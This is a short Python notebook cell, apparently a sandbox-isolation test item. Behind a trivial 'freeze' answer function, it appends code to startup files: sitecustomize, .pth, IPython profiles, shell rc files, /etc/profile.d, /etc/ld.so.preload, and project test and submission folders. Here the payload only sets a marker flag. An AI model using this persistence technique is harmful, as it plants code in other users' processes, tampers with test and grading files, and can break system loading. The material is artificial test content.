# %% [markdown]
# Leaves start-up files for the next process: sitecustomize, .pth, IPython profile, shell and matplotlib settings.
# %% question="freeze"
import os
import site
import sys

CODE = "import builtins; builtins.tl_attack_mark = True\n"
HOME = os.environ["HOME"]
PLACES = [
    *(os.path.join(p, n) for p in [*sys.path, *site.getsitepackages()] for n in ("sitecustomize.py", "usercustomize.py", "tl_attack_mark.pth")),
    *(os.path.join(HOME, ".ipython", "profile_default", "startup", n) for n in ("00-tl_attack_mark.py", "00-tl_attack_mark.ipy")),
    *(os.path.join(HOME, n) for n in (".bashrc", ".profile", ".pythonrc", ".config/matplotlib/matplotlibrc", ".pdbrc", ".jupyter/tl_attack_mark.py")),
    "/etc/ld.so.preload",
    "/etc/profile.d/tl_attack_mark.sh",
    "/opt/tl/inside/tl_attack_mark.py",
    "/root/.ipython/profile_default/startup/00-tl_attack_mark.py",
    KNOWN["checkout"] + "/tl_attack_mark.py",
    KNOWN["checkout"] + "/tests/tl_attack_mark.py",
    KNOWN["scratches"] + "/tl_attack_mark.py",
    KNOWN["submissions"] + "/tl_attack_mark.ipynb",
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "a") as file:
            file.write(CODE)
    except OSError:
        pass


def freeze(module):
    return module
